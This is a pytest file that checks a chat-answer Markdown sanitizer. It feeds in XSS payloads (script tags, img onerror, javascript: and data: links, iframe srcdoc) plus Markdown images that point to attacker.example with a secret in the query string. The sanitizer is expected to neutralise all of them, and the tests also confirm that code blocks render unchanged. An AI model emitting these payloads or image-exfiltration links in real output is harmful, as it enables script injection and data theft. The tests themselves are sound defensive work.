"""`chat_markdown`: a chat answer keeps its Markdown, but nothing in it can run, load or point
anywhere but the web (SECURITY.md T10's corpus), and code blocks keep their characters.
"""
from __future__ import annotations

import re

import pytest

from components.markup import chat_markdown

# A tag, an image, or a link whose target is not a web page (the escaped `]\(` stays text).
LIVE = re.compile(r"<\s*(script|img|iframe|style|svg|a|form)\b|!\[|(?<!\\)\]\((?!https?://)", re.I)


@pytest.mark.parametrize("payload", [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "[x](javascript:alert(1))",
    "![a](https://attacker.example/?q=SECRET)", "![a][r]\n\n[r]: https://attacker.example/p.png",
    "<style>*{display:none}</style>", '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', "[x](data:text/html,hi)",
    "&lt;img src=x onerror=alert(1)&gt;", "``` a`b\n<img src=x onerror=alert(1)>",
])
def test_nothing_in_an_answer_can_run_or_load(payload: str) -> None:
    assert not LIVE.search(chat_markdown(payload)), chat_markdown(payload)


@pytest.mark.parametrize("text, shown", [
    ("**bold** and a [link](https://huggingface.co)", "**bold** and a [link](https://huggingface.co)"),
    ("a < b & c", "a &lt; b &amp; c"),
    ("```python\nif a < b:\n    pass\n```", "\n\n```python\nif a < b:\n    pass\n```\n\n"),
    ("~~~\n```\n<b>\n~~~~", "\n\n````\n```\n<b>\n````\n\n"),  # a fence the code cannot close
    ("```js\nx <y", "\n\n```js\nx <y\n```\n\n"),  # a block still streaming is closed for it
])
def test_markdown_and_code_blocks_show_as_written(text: str, shown: str) -> None:
    assert chat_markdown(text) == shown
